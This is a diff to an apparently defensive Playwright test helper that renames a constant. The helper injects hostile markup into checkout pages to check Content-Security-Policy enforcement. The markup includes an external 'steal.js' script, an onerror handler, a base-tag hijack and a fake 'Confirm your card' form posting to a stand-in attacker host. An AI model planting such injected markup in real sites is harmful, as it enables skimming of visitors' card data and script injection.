@@ -3,15 +3,15 @@ import assert from 'node:assert/strict'
 import type { BrowserContext, Page } from 'playwright-core'
 import { eventually } from '../eventually.ts'
 
-const STRANGER = 'https://stranger.example'
+const FOREIGN_URL = 'https://stranger.example'
 
 const MARKUP = `
-  <base href="${STRANGER}/">
+  <base href="${FOREIGN_URL}/">
   <script>window.stolen = true</script>
-  <script src="${STRANGER}/steal.js"></script>
-  <img src="${STRANGER}/pixel.png" alt="" onerror="window.stolen = true">
-  <iframe src="${STRANGER}/form" title="Stranger"></iframe>
-  <form action="${STRANGER}/steal" method="post"><button>Confirm your card</button></form>`
+  <script src="${FOREIGN_URL}/steal.js"></script>
+  <img src="${FOREIGN_URL}/pixel.png" alt="" onerror="window.stolen = true">
+  <iframe src="${FOREIGN_URL}/form" title="Stranger"></iframe>
+  <form action="${FOREIGN_URL}/steal" method="post"><button>Confirm your card</button></form>`
 
 /** Violations of a page's Content-Security-Policy, by directive. */
 type Refusing = { refused?: string[] }
@@ -19,7 +19,7 @@ type Refusing = { refused?: string[] }
 /** A visitor whose checkout pages arrive with injected markup. */
 export async function withInjection(visitor: BrowserContext): Promise<{ requests: string[] }> {
   const requests: string[] = []
-  await visitor.route(`${STRANGER}/**`, async route => {
+  await visitor.route(`${FOREIGN_URL}/**`, async route => {
     requests.push(route.request().url())
     await route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
   })
